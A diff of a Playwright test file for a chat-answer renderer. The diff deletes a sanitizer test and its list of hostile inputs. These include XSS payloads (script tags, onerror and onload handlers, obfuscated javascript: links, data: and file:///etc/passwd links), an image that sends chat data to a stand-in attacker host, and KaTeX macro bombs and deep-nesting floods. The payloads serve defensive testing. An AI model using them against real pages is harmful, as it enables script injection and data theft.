@@ -18,61 +18,6 @@ LONG = "Write a long story about a lighthouse."
 
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="this machine has no Chromium")
 
-# Shows a text as an answer, at once and in 40 pieces; returns what must not be there, and the words that are.
-SHOW = """async (text) => {
-  const { AnswerText } = await import("/ui/text/sheet.js");
-  const REFUSED = /^(script|img|iframe|object|embed|style|link|meta|base|form|input|svg|template)$/i;
-  const views = [1, 40].map((pieces) => {
-    const view = new AnswerText();
-    document.body.append(view.element);
-    const step = Math.max(1, Math.ceil(text.length / pieces));
-    for (let at = step; at < text.length + step; at += step) view.show(text.slice(0, at));
-    view.end();
-    return view.element;
-  });
-  await new Promise((resolve) => setTimeout(resolve, 700));
-  const wrong = [];
-  for (const element of views.flatMap((view) => [...view.querySelectorAll("*")])) {
-    const isDrawn = element.closest(".katex") !== null;
-    const kind = element.tagName;
-    if (REFUSED.test(kind) && !isDrawn) wrong.push(kind);
-    for (const { name, value } of element.attributes) {
-      const isOurs = name === "style" && (isDrawn || element.matches(".sheet"));
-      if (!isOurs && /^(on.*|src|style|id|name|srcdoc)$/i.test(name)) wrong.push(name);
-      if (name === "href" && !/^(https?:|mailto:|#)/i.test(value)) wrong.push(value);
-    }
-  }
-  const words = views.map((view) => view.textContent);
-  for (const view of views) view.remove();
-  return { wrong, words, hasRun: Boolean(window.hasRun) };
-}"""
-
-HOSTILE = {
-    "script": "<script>window.hasRun = 1</script>",
-    "image": '<img src=x onerror="window.hasRun = 1">',
-    "svg": "<svg/onload=window.hasRun=1>",
-    "frame": '<iframe srcdoc="<script>parent.hasRun=1</script>"></iframe>',
-    "style": "<style>*{display:none}</style>",
-    "comment": "<!-- <img src=x onerror=window.hasRun=1>",
-    "link": "[a](javascript:window.hasRun=1) [b](JaVaScRiPt:window.hasRun=1) <javascript:window.hasRun=1>",
-    "entity": "[a](&#106;avascript&colon;window.hasRun=1) [b](java\tscript:window.hasRun=1)",
-    "data link": "[a](data:text/html,<script>window.hasRun=1</script>) [b](vbscript:x) [c](file:///etc/passwd)",
-    "reference": "[a]\n\n[a]: javascript:window.hasRun=1",
-    "title": '[a](https://example.org "x\\" onmouseover=window.hasRun=1")',
-    "remote picture": "![secret](https://evil.example/?q=chat) ![x](data:image/svg+xml,<svg onload=window.hasRun=1>)",
-    "fence": '```"><img src=x onerror=window.hasRun=1>\n<script>window.hasRun=1</script>\n```',
-    "open fence": "```html\n<script>window.hasRun = 1</script>",
-    "formula link": "$\\href{javascript:window.hasRun=1}{x}$ and $$\\htmlData{a=b}{x}$$",
-    "deep formula": "$$" + "\\frac{" * 200 + "x" + "}{y}" * 200 + "$$",
-    "macro bomb": "$$\\def\\a{\\a\\a}\\a$$",
-    "deep quotes": ">" * 5000 + " x",
-    "brackets": "[" * 20_000,
-    "stars": "*_" * 5000,
-    "prototype": "[__proto__]\n\n[__proto__]: https://example.org\n[constructor]: https://example.org",
-    "controls": "a\0b\x07c\x1b[31m",
-}
-
-
 AXE_RUN = "axe.run(document, {resultTypes: ['violations']}).then((found) => JSON.stringify(found.violations))"
 
 
@@ -184,16 +129,6 @@ def test_an_answer_cut_by_the_end_of_the_page_keeps_its_text(page: Page) -> None
     expect(page.locator(".ending")).to_contain_text("Cut off")
     (kept,) = answered(page)
     assert kept.startswith(shown[:40])
-
-
-@pytest.mark.parametrize("name", HOSTILE)
-def test_hostile_text_runs_nothing_and_asks_nobody(page: Page, name: str) -> None:
-    shown = page.evaluate(SHOW, HOSTILE[name])
-    assert shown["wrong"] == []
-    assert not shown["hasRun"]
-    at_once, in_pieces = shown["words"]
-    assert at_once.strip()
-    assert at_once == in_pieces
 
 
 def test_a_lost_server_is_said_and_found_again(browser: Browser, start_server: Callable[..., Any]) -> None:
